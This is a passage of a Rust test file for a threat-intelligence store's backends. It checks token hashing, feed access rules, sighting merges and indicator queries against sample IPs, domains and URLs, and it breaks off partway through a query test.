//! The behaviour every [`Store`] must have, as tests any backend can run.
//!
//! Each `pub async fn` takes a fresh, empty store and panics on the first broken promise.
//! A backend runs them all with [`conformance_tests!`](crate::conformance_tests), e.g.
//! `apiary_store::conformance_tests!(fresh_store);` where `async fn fresh_store() -> (G, S)`
//! returns a guard to keep alive (a temp dir) and the store.

use crate::model::*;
use crate::{NewHpfeedsIdent, NewWebhook, Store, StoreError, Webhook, WebhookProgress, WebhookState};
use crate::{NewSensor, NewSession, Sensor, SessionQuery, StoredSession};
use apiary_core::IType;
use chrono::{DateTime, Duration, Utc};
use std::collections::HashSet;

/// Defines one `#[tokio::test]` per conformance test, each on a fresh store from `$fresh`.
/// With `ready = $ready` (an `async fn() -> bool`), a test whose `$ready()` is false returns
/// at once (a server-backed store that is not running here; its `$ready` decides whether that
/// is a skip or a failure).
#[macro_export]
macro_rules! conformance_tests {
    ($fresh:path) => {
        $crate::conformance_tests!($fresh, ready = $crate::conformance::always_ready);
    };
    ($fresh:path, ready = $ready:path) => {
        $crate::conformance_tests!(@each $fresh, $ready;
            users_are_created_listed_and_unique,
            tokens_are_hashed_and_resolve_to_their_user,
            revoked_and_expired_tokens_do_not_authenticate,
            feeds_crud,
            feed_visibility_and_grants,
            readable_feeds_follow_visibility,
            ti19_first_and_last_seen_ignore_arrival_order,
            ti20_one_record_per_value_and_feed_with_unions,
            descriptive_fields_follow_the_newest_observation,
            indicator_summary_counts_feeds_and_sources,
            idempotency_keys_store_a_report_once,
            sightings_keep_every_field,
            append_to_unknown_feed_is_rejected,
            query_by_value,
            query_within_cidr_v4,
            query_within_cidr_v6,
            query_domain_and_subdomains,
            query_by_itype_and_tags,
            query_by_feed_and_time_window,
            pagination_has_no_duplicates_or_gaps,
            scans_match_queries,
            private_feeds_are_never_visible_to_others,
            deleting_a_feed_removes_its_records,
            stats_count_everything,
            hpfeeds_idents_are_stored_replaced_and_removed,
            hpfeeds_idents_are_checked,
            sightings_log_reads_after_a_seq_in_order,
            feed_subscriptions_are_per_user,
            webhooks_keep_their_cursor_and_state,
            sessions_are_stored_once_and_replaced_by_more_complete_versions,
            sessions_are_queried_by_attacker_sensor_payload_and_link,
            sessions_give_the_links_of_campaigns,
            sensors_are_registered_listed_and_removed,
            sessions_and_sensors_go_with_their_feed,
            trust_sources_default_and_keep_pinned_tiers,
            trust_scores_are_replaced_and_read_back,
            trust_feedback_and_retractions_are_kept,
            trust_log_read_matches_the_sightings_log,
            sensor_events_store_each_key_once,
            sensor_sessions_are_ready_when_closed_or_idle,
            leases_are_exclusive_expire_and_release,
            log_readers_never_skip_a_concurrent_commit,
            feed_presence_pages_values_with_their_feeds,
            feed_comparison_is_replaced_and_read_back,
        );
    };
    (@each $fresh:path, $ready:path; $($name:ident),* $(,)?) => {
        $(
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn $name() {
                if !$ready().await {
                    return;
                }
                let (_guard, store) = $fresh().await;
                $crate::conformance::$name(&store).await;
            }
        )*
    };
}

/// The `ready` of a store that is always there (an embedded one).
pub async fn always_ready() -> bool {
    true
}

fn t(s: &str) -> Timestamp {
    DateTime::parse_from_rfc3339(s).expect("test timestamp").with_timezone(&Utc)
}

async fn user(s: &dyn Store, name: &str) -> User {
    s.create_user(name, false).await.expect("create user")
}

async fn feed(s: &dyn Store, owner: &str, name: &str, visibility: Visibility) -> Feed {
    s.create_feed(NewFeed { owner: owner.into(), name: name.into(), visibility, ..Default::default() })
        .await
        .expect("create feed")
}

/// A minimal sighting of `value` in `feed` by `reporter`, observed at `at`.
fn sighting(feed: &Feed, reporter: &User, itype: IType, value: &str, at: &str) -> NewSighting {
    NewSighting {
        feed_id: feed.id,
        reporter_id: reporter.id,
        itype,
        value: value.into(),
        reserved: None,
        observed_at: t(at),
        observed_until: None,
        received_at: t(at),
        tags: Vec::new(),
        ports: Vec::new(),
        protocol: None,
        description: None,
        tlp: Tlp::Green,
        claimed_confidence: None,
        sensor: None,
        count: 1,
        extra: serde_json::Value::Null,
        idempotency_key: None,
    }
}

fn admin_reader() -> Option<Reader> {
    Some(Reader { user_id: 0, admin: true })
}

/// Query as an admin (sees everything), with `f` setting the filters.
async fn query_all(s: &dyn Store, f: impl FnOnce(&mut Query)) -> Vec<FeedRecord> {
    let mut q = Query { reader: admin_reader(), limit: 1000, ..Default::default() };
    f(&mut q);
    let page = s.query(&q).await.expect("query");
    assert!(page.next.is_none(), "test queries fit one page");
    page.items
}

fn values(records: &[FeedRecord]) -> Vec<String> {
    let mut v: Vec<String> = records.iter().map(|r| r.indicator.clone()).collect();
    v.sort();
    v
}

fn sorted(v: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = v.iter().map(|s| s.to_string()).collect();
    v.sort();
    v
}

pub async fn users_are_created_listed_and_unique(s: &dyn Store) {
    let alice = s.create_user("alice", false).await.unwrap();
    let root = s.create_user("root", true).await.unwrap();
    assert!(!alice.admin && root.admin);
    assert_ne!(alice.id, root.id);
    assert!(matches!(s.create_user("alice", true).await, Err(StoreError::Conflict(_))));
    assert_eq!(s.get_user("alice").await.unwrap(), Some(alice.clone()));
    assert_eq!(s.get_user("nobody").await.unwrap(), None);
    let names: Vec<String> = s.list_users().await.unwrap().into_iter().map(|u| u.name).collect();
    assert_eq!(names, vec!["alice", "root"]);
}

pub async fn tokens_are_hashed_and_resolve_to_their_user(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let scopes = Scopes { read: true, write: true, admin: false };
    let (info, secret) = s.create_token("alice", scopes, None, Some("laptop")).await.unwrap();
    assert!(secret.starts_with("apy_"), "token `{secret}` has the apy_ prefix");
    assert_eq!(secret.len(), 4 + 64, "32 random bytes, hex");
    assert!(secret[4..].chars().all(|c| c.is_ascii_hexdigit()));
    assert_eq!((info.user.as_str(), info.scopes, info.label.as_deref(), info.revoked), ("alice", scopes, Some("laptop"), false));

    let p = s.authenticate(&secret).await.unwrap().expect("a fresh token authenticates");
    assert_eq!((p.user_id, p.user.as_str(), p.admin, p.scopes, p.token_id), (alice.id, "alice", false, scopes, info.id));

    // A second token is a different secret.
    let (_, other) = s.create_token("alice", Scopes::parse("read").unwrap(), None, None).await.unwrap();
    assert_ne!(other, secret);
    // Near misses and garbage do not authenticate.
    let mut altered = secret.clone();
    let last = altered.pop().unwrap();
    altered.push(if last == '0' { '1' } else { '0' });
    for wrong in [altered.as_str(), "apy_", "", "not-a-token", &secret[..secret.len() - 1]] {
        assert_eq!(s.authenticate(wrong).await.unwrap(), None, "`{wrong}` must not authenticate");
    }
    // The listing never carries the secret.
    let listed = s.list_tokens("alice").await.unwrap();
    assert_eq!(listed.len(), 2);
    assert_eq!(listed[0], info);
    let shown = serde_json::to_string(&listed).unwrap();
    assert!(!shown.contains(&secret[4..]) && !shown.contains(&other[4..]));
    assert!(matches!(
        s.create_token("nobody", scopes, None, None).await,
        Err(StoreError::NotFound(_))
    ));
}

pub async fn revoked_and_expired_tokens_do_not_authenticate(s: &dyn Store) {
    user(s, "alice").await;
    user(s, "mallory").await;
    let scopes = Scopes::parse("read,write").unwrap();
    let (info, secret) = s.create_token("alice", scopes, None, None).await.unwrap();
    assert!(matches!(s.revoke_token("mallory", info.id).await, Err(StoreError::NotFound(_))), "only the owner revokes");
    assert!(s.authenticate(&secret).await.unwrap().is_some());
    s.revoke_token("alice", info.id).await.unwrap();
    assert_eq!(s.authenticate(&secret).await.unwrap(), None);
    assert!(s.list_tokens("alice").await.unwrap()[0].revoked);
    assert!(matches!(s.revoke_token("alice", info.id + 1000).await, Err(StoreError::NotFound(_))));

    let (_, expired) = s.create_token("alice", scopes, Some(Utc::now() - Duration::seconds(1)), None).await.unwrap();
    assert_eq!(s.authenticate(&expired).await.unwrap(), None);
    let until = Utc::now() + Duration::hours(1);
    let (info, valid) = s.create_token("alice", scopes, Some(until), None).await.unwrap();
    assert!(s.authenticate(&valid).await.unwrap().is_some());
    assert_eq!(info.expires_at.map(|e| e.timestamp()), Some(until.timestamp()));
}

pub async fn feeds_crud(s: &dyn Store) {
    let alice = user(s, "alice").await;
    user(s, "bob").await;
    let f = s
        .create_feed(NewFeed {
            owner: "alice".into(),
            name: "ssh".into(),
            description: Some("ssh scanners".into()),
            license_name: Some("CC0".into()),
            license_url: None,
            visibility: Visibility::Public,
        })
        .await
        .unwrap();
    assert_eq!((f.owner.as_str(), f.owner_id, f.name.as_str(), f.full_name()), ("alice", alice.id, "ssh", "alice/ssh".to_string()));
    assert_eq!(f.description.as_deref(), Some("ssh scanners"));
    assert!(matches!(
        s.create_feed(NewFeed { owner: "alice".into(), name: "ssh".into(), ..Default::default() }).await,
        Err(StoreError::Conflict(_))
    ));
    assert!(matches!(
        s.create_feed(NewFeed { owner: "nobody".into(), name: "x".into(), ..Default::default() }).await,
        Err(StoreError::NotFound(_))
    ));
    // The same name under another owner is another feed.
    let b = feed(s, "bob", "ssh", Visibility::Public).await;
    assert_ne!(b.id, f.id);

    assert_eq!(s.get_feed("alice", "ssh").await.unwrap(), Some(f.clone()));
    assert_eq!(s.get_feed("alice", "nope").await.unwrap(), None);
    let all: Vec<String> = s.list_feeds(None).await.unwrap().iter().map(Feed::full_name).collect();
    assert_eq!(all, vec!["alice/ssh", "bob/ssh"]);
    let mine: Vec<String> = s.list_feeds(Some("alice")).await.unwrap().iter().map(Feed::full_name).collect();
    assert_eq!(mine, vec!["alice/ssh"]);

    let updated = s
        .update_feed("alice", "ssh", FeedUpdate { description: Some("new".into()), visibility: Some(Visibility::Private), ..Default::default() })
        .await
        .unwrap();
    assert_eq!(updated.description.as_deref(), Some("new"));
    assert_eq!(updated.license_name.as_deref(), Some("CC0"), "fields not in the update are kept");
    assert_eq!(updated.visibility, Visibility::Private);
    assert!(updated.updated_at >= f.updated_at);
    assert!(matches!(s.update_feed("alice", "nope", FeedUpdate::default()).await, Err(StoreError::NotFound(_))));

    s.delete_feed("alice", "ssh").await.unwrap();
    assert_eq!(s.get_feed("alice", "ssh").await.unwrap(), None);
    assert!(matches!(s.delete_feed("alice", "ssh").await, Err(StoreError::NotFound(_))));
    assert!(s.get_feed("bob", "ssh").await.unwrap().is_some());
}

pub async fn feed_visibility_and_grants(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let bob = user(s, "bob").await;
    let root = s.create_user("root", true).await.unwrap();
    let public = feed(s, "alice", "open", Visibility::Public).await;
    let private = feed(s, "alice", "closed", Visibility::Private).await;
    assert_eq!(private.visibility, Visibility::Private);
    assert_eq!(public.visibility, Visibility::Public, "public by default");

    assert!(s.has_feed_access(public.id, bob.id).await.unwrap());
    assert!(s.has_feed_access(private.id, alice.id).await.unwrap(), "the owner reads it");
    assert!(!s.has_feed_access(private.id, bob.id).await.unwrap());
    assert!(s.has_feed_access(private.id, root.id).await.unwrap(), "admins read everything");
    assert!(!s.has_feed_access(private.id + 1000, alice.id).await.unwrap(), "no such feed");

    s.grant_feed_access("alice", "closed", "bob").await.unwrap();
    assert!(s.has_feed_access(private.id, bob.id).await.unwrap());
    s.grant_feed_access("alice", "closed", "bob").await.unwrap(); // granting twice is harmless
    assert!(matches!(s.grant_feed_access("alice", "closed", "nobody").await, Err(StoreError::NotFound(_))));
    assert!(matches!(s.grant_feed_access("alice", "nope", "bob").await, Err(StoreError::NotFound(_))));
}

pub async fn readable_feeds_follow_visibility(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let bob = user(s, "bob").await;
    let carol = user(s, "carol").await;
    feed(s, "alice", "open", Visibility::Public).await;
    feed(s, "alice", "closed", Visibility::Private).await;
    feed(s, "bob", "secret", Visibility::Private).await;
    s.grant_feed_access("alice", "closed", "carol").await.unwrap();
    let names = |feeds: Vec<Feed>| feeds.iter().map(Feed::full_name).collect::<Vec<_>>();
    let of = |u: &User| Some(Reader { user_id: u.id, admin: false });

    assert_eq!(names(s.list_readable_feeds(None, None).await.unwrap()), vec!["alice/open"]);
    assert_eq!(names(s.list_readable_feeds(of(&alice).as_ref(), None).await.unwrap()), vec!["alice/closed", "alice/open"]);
    assert_eq!(names(s.list_readable_feeds(of(&bob).as_ref(), None).await.unwrap()), vec!["alice/open", "bob/secret"]);
    assert_eq!(names(s.list_readable_feeds(of(&carol).as_ref(), None).await.unwrap()), vec!["alice/closed", "alice/open"]);
    assert_eq!(names(s.list_readable_feeds(admin_reader().as_ref(), None).await.unwrap()).len(), 3);
    assert_eq!(names(s.list_readable_feeds(of(&bob).as_ref(), Some("alice")).await.unwrap()), vec!["alice/open"]);
}

/// TI-19: firsttime = min, lasttime = max, whatever order the sightings arrive in.
pub async fn ti19_first_and_last_seen_ignore_arrival_order(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let f = feed(s, "alice", "hp", Visibility::Public).await;
    let times = ["2021-05-03T11:00:00Z", "2021-05-02T07:00:00Z", "2021-05-04T20:00:00Z"];
    // In one batch...
    let batch = times.iter().map(|at| sighting(&f, &alice, IType::Ipv4, "192.0.2.44", at)).collect();
    let out = s.append_sightings(batch).await.unwrap();
    assert_eq!(out.len(), 3);
    assert!(out.iter().all(|o| !o.duplicate && o.seq.is_some() && o.record_id == out[0].record_id));
    let seqs: Vec<i64> = out.iter().map(|o| o.seq.unwrap()).collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "seq follows the log order");
    // ...and one by one, in another feed.
    let g = feed(s, "alice", "hp2", Visibility::Public).await;
    for at in times {
        s.append_sightings(vec![sighting(&g, &alice, IType::Ipv4, "192.0.2.44", at)]).await.unwrap();
    }
    let recs = query_all(s, |q| q.value = Some("192.0.2.44".into())).await;
    assert_eq!(recs.len(), 2);
    for r in &recs {
        assert_eq!(r.count, 3);
        assert_eq!(r.firsttime, t("2021-05-02T07:00:00Z"));
        assert_eq!(r.lasttime, t("2021-05-04T20:00:00Z"));
        assert_eq!(r.itype, IType::Ipv4);
    }
    assert_eq!(s.get_record(out[0].record_id).await.unwrap().as_ref(), recs.iter().find(|r| r.feed_id == f.id));

    // An observation interval (observed_until) stretches lasttime.
    let mut long = sighting(&f, &alice, IType::Ipv4, "192.0.2.44", "2021-05-01T00:00:00Z");
    long.observed_until = Some(t("2021-05-06T00:00:00Z"));
    s.append_sightings(vec![long]).await.unwrap();
    let r = s.get_record(out[0].record_id).await.unwrap().unwrap();
    assert_eq!((r.firsttime, r.lasttime, r.count), (t("2021-05-01T00:00:00Z"), t("2021-05-06T00:00:00Z"), 4));
}

/// TI-20: reports of one value in one feed merge into one record: tags and ports are
/// unions, counts add up.
pub async fn ti20_one_record_per_value_and_feed_with_unions(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let f = feed(s, "alice", "honeypot-a", Visibility::Public).await;
    let mut a = sighting(&f, &alice, IType::Ipv4, "198.51.100.77", "2021-05-03T11:00:00Z");
    a.tags = vec!["scanner".into()];
    a.ports = vec![22];
    let mut b = sighting(&f, &alice, IType::Ipv4, "198.51.100.77", "2021-05-03T12:00:00Z");
    b.tags = vec!["bruteforce".into(), "scanner".into()];
    b.ports = vec![2222, 22];
    b.count = 5;
    let out = s.append_sightings(vec![a, b]).await.unwrap();
    assert_eq!(out[0].record_id, out[1].record_id, "stored once");
    let recs = query_all(s, |q| q.value = Some("198.51.100.77".into())).await;
    assert_eq!(recs.len(), 1);
    assert_eq!(recs[0].tags, vec!["bruteforce", "scanner"]);
    assert_eq!(recs[0].portlist, vec![22, 2222]);
    assert_eq!(recs[0].count, 6);

    // A later batch merges into the same record.
    let mut c = sighting(&f, &alice, IType::Ipv4, "198.51.100.77", "2021-05-01T00:00:00Z");
    c.tags = vec!["login".into()];
    c.ports = vec![23];
    let again = s.append_sightings(vec![c]).await.unwrap();
    assert_eq!(again[0].record_id, out[0].record_id);
    let r = s.get_record(out[0].record_id).await.unwrap().unwrap();
    assert_eq!(r.tags, vec!["bruteforce", "login", "scanner"]);
    assert_eq!(r.portlist, vec![22, 23, 2222]);
    assert_eq!(r.count, 7);
    assert_eq!(r.firsttime, t("2021-05-01T00:00:00Z"));
    assert_eq!(r.lasttime, t("2021-05-03T12:00:00Z"));
}

pub async fn descriptive_fields_follow_the_newest_observation(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let f = feed(s, "alice", "hp", Visibility::Public).await;
    let mut newer = sighting(&f, &alice, IType::Fqdn, "bad.example", "2021-05-04T00:00:00Z");
    newer.description = Some("newer".into());
    newer.claimed_confidence = Some(8.0);
    newer.received_at = t("2021-05-04T00:00:10Z");
    let mut older = sighting(&f, &alice, IType::Fqdn, "bad.example", "2021-05-01T00:00:00Z");
    older.description = Some("older".into());
    older.protocol = Some("tcp".into());
    older.tlp = Tlp::Amber;
    older.reserved = None;
    older.received_at = t("2021-05-05T00:00:00Z");
    // The older observation arrives last: it fills gaps but does not overwrite.
    let out = s.append_sightings(vec![newer]).await.unwrap();
    s.append_sightings(vec![older]).await.unwrap();
    let r = s.get_record(out[0].record_id).await.unwrap().unwrap();
    assert_eq!(r.description.as_deref(), Some("newer"));
    assert_eq!(r.claimed_confidence, Some(8.0));
    assert_eq!(r.protocol.as_deref(), Some("tcp"));
    assert_eq!(r.tlp, Tlp::Amber, "the most restrictive TLP of any sighting");
    assert_eq!(r.reporttime, t("2021-05-05T00:00:00Z"), "reporttime: the latest report");
}

pub async fn indicator_summary_counts_feeds_and_sources(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let bob = user(s, "bob").await;
    let fa = feed(s, "alice", "hp", Visibility::Public).await;
    let fb = feed(s, "bob", "hp", Visibility::Private).await;
    let v = "203.0.113.9";
    let mut first = sighting(&fa, &alice, IType::Ipv4, v, "2021-05-02T00:00:00Z");
    first.reserved = Some("documentation".into());
    s.append_sightings(vec![first, sighting(&fa, &alice, IType::Ipv4, v, "2021-05-03T00:00:00Z")]).await.unwrap();
    let sum = s.get_indicator(v).await.unwrap().unwrap();
    assert_eq!((sum.feeds, sum.sources, sum.count), (1, 1, 2));
    assert_eq!(sum.reserved.as_deref(), Some("documentation"));
    assert_eq!(sum.itype, IType::Ipv4);

    let mut by_bob = sighting(&fb, &bob, IType::Ipv4, v, "2021-04-01T00:00:00Z");
    by_bob.count = 10;
    s.append_sightings(vec![by_bob]).await.unwrap();
    // Bob reporting into Alice's feed adds a source, not a feed.
    s.append_sightings(vec![sighting(&fa, &bob, IType::Ipv4, v, "2021-06-01T00:00:00Z")]).await.unwrap();
    let sum = s.get_indicator(v).await.unwrap().unwrap();
    assert_eq!(sum.indicator, v);
    assert_eq!((sum.feeds, sum.sources, sum.count), (2, 2, 13));
    assert_eq!((sum.firsttime, sum.lasttime), (t("2021-04-01T00:00:00Z"), t("2021-06-01T00:00:00Z")));
    assert_eq!(s.get_indicator("203.0.113.10").await.unwrap(), None);
}

pub async fn idempotency_keys_store_a_report_once(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let f = feed(s, "alice", "hp", Visibility::Public).await;
    let g = feed(s, "alice", "other", Visibility::Public).await;
    let keyed = |feed: &Feed, key: &str| {
        let mut x = sighting(feed, &alice, IType::Ipv4, "192.0.2.1", "2021-05-03T11:00:00Z");
        x.idempotency_key = Some(key.into());
        x
    };
    let first = s.append_sightings(vec![keyed(&f, "k1"), keyed(&f, "k1"), keyed(&f, "k2")]).await.unwrap();
    assert!(!first[0].duplicate && first[0].seq.is_some());
    assert_eq!(first[1], AppendOutcome { seq: None, record_id: first[0].record_id, duplicate: true }, "repeat within a batch");
    assert!(!first[2].duplicate);
    let again = s.append_sightings(vec![keyed(&f, "k1"), keyed(&f, "k3")]).await.unwrap();
    assert_eq!(again[0], AppendOutcome { seq: None, record_id: first[0].record_id, duplicate: true }, "repeat in a later batch");
    assert!(!again[1].duplicate && again[1].seq.is_some());
    // Unkeyed sightings are never duplicates.
    let plain = s
        .append_sightings(vec![sighting(&f, &alice, IType::Ipv4, "192.0.2.1", "2021-05-03T11:00:00Z"); 2])
        .await
        .unwrap();
    assert!(plain.iter().all(|o| !o.duplicate));
    let r = s.get_record(first[0].record_id).await.unwrap().unwrap();
    assert_eq!(r.count, 5, "k1, k2, k3 and two unkeyed");
    assert_eq!(s.sightings_of("192.0.2.1", Some(&[f.id]), 100).await.unwrap().len(), 5);
    // Keys belong to a feed: another feed's k1 is a new report.
    let other = s.append_sightings(vec![keyed(&g, "k1")]).await.unwrap();
    assert!(!other[0].duplicate);
    assert_eq!(s.get_indicator("192.0.2.1").await.unwrap().unwrap().count, 6);
}

pub async fn sightings_keep_every_field(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let f = feed(s, "alice", "hp", Visibility::Public).await;
    let g = feed(s, "alice", "other", Visibility::Public).await;
    let mut full = sighting(&f, &alice, IType::Url, "http://dl.example/x.sh", "2021-05-03T11:00:00.123456Z");
    full.received_at = t("2021-05-03T11:00:05Z");
    full.tags = vec!["download".into(), "malware".into()];
    full.ports = vec![80];
    full.protocol = Some("tcp".into());
    full.description = Some("fetched by a bot".into());
    full.tlp = Tlp::Amber;
    full.claimed_confidence = Some(7.5);
    full.sensor = Some("hp-eu-1".into());
    full.count = 3;
    full.extra = serde_json::json!({"session": "a1b2", "nested": {"k": [1, 2]}, "unicode": "é"});
    let out = s.append_sightings(vec![full.clone()]).await.unwrap();
    s.append_sightings(vec![sighting(&g, &alice, IType::Url, "http://dl.example/x.sh", "2021-05-04T00:00:00Z")])
        .await
        .unwrap();

    let all = s.sightings_of("http://dl.example/x.sh", None, 10).await.unwrap();
    assert_eq!(all.len(), 2);
    assert!(all[0].seq > all[1].seq, "newest first");
    let got = &all[1];
    assert_eq!(got.seq, out[0].seq.unwrap());
    assert_eq!(got.feed, "alice/hp");
    assert_eq!((got.itype, got.indicator.as_str()), (IType::Url, "http://dl.example/x.sh"));
    assert_eq!(got.observed_at, full.observed_at, "microseconds are kept");
    assert_eq!(got.received_at, full.received_at);
    assert_eq!(got.tags, full.tags);
    assert_eq!(got.portlist, vec![80]);
    assert_eq!(got.protocol, full.protocol);
    assert_eq!(got.description, full.description);
    assert_eq!(got.tlp, Tlp::Amber);
    assert_eq!(got.claimed_confidence, Some(7.5));
    assert_eq!(got.sensor.as_deref(), Some("hp-eu-1"));
    assert_eq!(got.count, 3);
    assert_eq!(got.extra, full.extra, "unknown fields are kept as sent");

    let only_g = s.sightings_of("http://dl.example/x.sh", Some(&[g.id]), 10).await.unwrap();
    assert_eq!(only_g.len(), 1);
    assert_eq!(only_g[0].feed, "alice/other");
    assert_eq!(s.sightings_of("http://dl.example/x.sh", None, 1).await.unwrap().len(), 1, "limit");
    assert!(s.sightings_of("http://dl.example/x.sh", Some(&[]), 10).await.unwrap().is_empty());
    assert!(s.sightings_of("http://nothing.example/", None, 10).await.unwrap().is_empty());
}

pub async fn append_to_unknown_feed_is_rejected(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let f = feed(s, "alice", "hp", Visibility::Public).await;
    let mut ghost = f.clone();
    ghost.id = f.id + 1000;
    let res = s
        .append_sightings(vec![
            sighting(&f, &alice, IType::Ipv4, "192.0.2.1", "2021-05-03T11:00:00Z"),
            sighting(&ghost, &alice, IType::Ipv4, "192.0.2.2", "2021-05-03T11:00:00Z"),
        ])
        .await;
    assert!(matches!(res, Err(StoreError::NotFound(_)) | Err(StoreError::Invalid(_))), "got {res:?}");
    assert_eq!(s.get_indicator("192.0.2.1").await.unwrap(), None, "a rejected batch stores nothing");
    assert!(s.append_sightings(Vec::new()).await.unwrap().is_empty());
}

/// A small mixed data set in two public feeds and a private one.
/// One fixture row: feed, reporter, itype, value, observed at, tags.
type Row<'a> = (&'a Feed, &'a User, IType, &'a str, &'a str, &'a [&'a str]);

struct Fixture {
    alice: User,
    bob: User,
    open: Feed,
    other: Feed,
    closed: Feed,
}

async fn fixture(s: &dyn Store) -> Fixture {
    let alice = user(s, "alice").await;
    let bob = user(s, "bob").await;
    let open = feed(s, "alice", "open", Visibility::Public).await;
    let other = feed(s, "bob", "other", Visibility::Public).await;
    let closed = feed(s, "bob", "closed", Visibility::Private).await;
    let rows: &[Row] = &[
        (&open, &alice, IType::Ipv4, "198.51.100.7", "2021-05-01T00:00:00Z", &["scanner"]),
        (&open, &alice, IType::Ipv4, "198.51.100.200", "2021-05-02T00:00:00Z", &["scanner", "bruteforce"]),
        (&open, &alice, IType::Ipv4, "198.51.100.128/25", "2021-05-03T00:00:00Z", &[]),
        (&open, &alice, IType::Ipv4, "198.51.0.0/16", "2021-05-04T00:00:00Z", &[]),
        (&open, &alice, IType::Ipv4, "198.51.101.1", "2021-05-05T00:00:00Z", &["scanner"]),
        (&open, &alice, IType::Ipv6, "2001:db8::1", "2021-05-06T00:00:00Z", &["scanner"]),
        (&open, &alice, IType::Ipv6, "2001:db8:0:1::/64", "2021-05-07T00:00:00Z", &[]),
        (&open, &alice, IType::Ipv6, "2001:db9::1", "2021-05-08T00:00:00Z", &[]),
        (&other, &bob, IType::Fqdn, "example.com", "2021-05-09T00:00:00Z", &["phishing"]),
        (&other, &bob, IType::Fqdn, "www.example.com", "2021-05-10T00:00:00Z", &[]),
        (&other, &bob, IType::Fqdn, "badexample.com", "2021-05-11T00:00:00Z", &["phishing"]),
        (&other, &bob, IType::Url, "http://a.b.example.com/x", "2021-05-12T00:00:00Z", &["phishing"]),
        (&other, &bob, IType::Url, "http://example.org/example.com", "2021-05-13T00:00:00Z", &[]),
        (&other, &bob, IType::Sha256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "2021-05-14T00:00:00Z", &["malware"]),
        (&other, &bob, IType::Ipv4, "198.51.100.7", "2021-05-15T00:00:00Z", &["bruteforce"]),
        (&closed, &bob, IType::Ipv4, "198.51.100.9", "2021-05-16T00:00:00Z", &["scanner"]),
        (&closed, &bob, IType::Fqdn, "secret.example.com", "2021-05-17T00:00:00Z", &["phishing"]),
    ];
    let batch = rows
        .iter()
        .map(|(f, u, it, v, at, tags)| {
            let mut x = sighting(f, u, *it, v, at);
            x.tags = tags.iter().map(|t| t.to_string()).collect();
            x
        })
        .collect();
    s.append_sightings(batch).await.unwrap();
    Fixture { alice, bob, open, other, closed }
}

pub async fn query_by_value(s: &dyn Store) {
    let fx = fixture(s).await;
    let recs = query_all(s, |q| q.value = Some("198.51.100.7".into())).await;
    let mut feeds: Vec<&str> = recs.iter().map(|r| r.feed.as_str()).collect();
    feeds.sort();
    assert_eq!(feeds, vec!["alice/open", "bob/other"]);
    assert!(recs.iter().all(|r| r.indicator == "198.51.100.7" && r.count == 1));
    assert_eq!(recs[0].lasttime, t("2021-05-15T00:00:00Z"), "newest first");
    assert!(query_all(s, |q| q.value = Some("198.51.100.8".into())).await.is_empty());
    let only = query_all(s, |q| {
        q.value = Some("198.51.100.7".into());
        q.feed_ids = Some(vec![fx.open.id]);
    })
    .await;
    assert_eq!(only.len(), 1);
    assert_eq!(only[0].feed_id, fx.open.id);
}

pub async fn query_within_cidr_v4(s: &dyn Store) {
    fixture(s).await;
    let within = |cidr: &'static str| async move { values(&query_all(s, |q| q.within = Some(cidr.into())).await) };
    assert_eq!(
        within("198.51.100.0/24").await,
        sorted(&["198.51.100.7", "198.51.100.7", "198.51.100.200", "198.51.100.128/25", "198.51.100.9"])
    );
    assert_eq!(within("198.51.100.128/25").await, sorted(&["198.51.100.200", "198.51.100.128/25"]));
    assert_eq!(
        within("198.51.0.0/16").await,
        sorted(&[
            "198.51.100.7",
            "198.51.100.7",
            "198.51.100.200",
            "198.51.100.128/25",
            "198.51.0.0/16",
            "198.51.101.1",
            "198.51.100.9"
        ])
    );
    assert_eq!(within("198.51.100.7").await, sorted(&["198.51.100.7", "198.51.100.7"]), "a single address");
    assert!(within("203.0.113.0/24").await.is_empty());
    assert!(within("2001:db8::/32").await.iter().all(|v| v.contains(':')), "families do not mix");
    let bad = s.query(&Query { within: Some("not-a-cidr".into()), reader: admin_reader(), ..Default::default() }).await;
    assert!(matches!(bad, Err(StoreError::Invalid(_))));
}

pub async fn query_within_cidr_v6(s: &dyn Store) {
    fixture(s).await;
    let within = |cidr: &'static str| async move { values(&query_all(s, |q| q.within = Some(cidr.into())).await) };
    assert_eq!(within("2001:db8::/32").await, sorted(&["2001:db8::1", "2001:db8:0:1::/64"]));
    assert_eq!(within("2001:db8::/64").await, sorted(&["2001:db8::1"]));
    assert_eq!(within("2001:db8::/31").await, sorted(&["2001:db8::1", "2001:db8:0:1::/64", "2001:db9::1"]));
    assert!(within("2001:db8:1::/48").await.is_empty());
    assert!(within("::/0").await.iter().all(|v| v.contains(':')));
    assert_eq!(within("::/0").await.len(), 3);
}

pub async fn query_domain_and_subdomains(s: &dyn Store) {
    fixture(s).await;
    let domain = |d: &'static str| async move { values(&query_all(s, |q| q.domain = Some(d.into())).await) };
    assert_eq!(
        domain("example.com").await,
        sorted(&["example.com", "www.example.com", "http://a.b.example.com/x", "secret.example.com"])
    );
    assert_eq!(domain("b.example.com").await, sorted(&["http://a.b.example.com/x"]));
    assert_eq!(domain("www.example.com").await, sorted(&["www.example.com"]));
    assert_eq!(domain("example.org").await, sorted(&["http://example.org/example.com"]));
    assert!(domain("xample.com").await.is_empty(), "labels, not substrings");
    let fqdn_only = values(
        &query_all(s, |q| {
            q.domain = Some("example.com".into());
            q.itype = Some(IType::Fqdn);
        })
        .await,
    );
    assert_eq!(fqdn_only, sorted(&["example.com", "www.example.com", "secret.example.com"]));
}

pub async fn query_by_itype_and_tags(s: &dyn Store) {
    fixture(s).await;
    assert_eq!(values(&query_all(s, |q| q.itype = Some(IType::Ipv6)).await).len(), 3);
    assert_eq!(
        values(&query_all(s, |q| q.itype = Some(IType::Sha256)).await),
        sorted(&["e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"])
    );
    assert!(query_all(s, |q| q.itype = Some(IType::Email)).await.is_empty());
    assert_eq!(
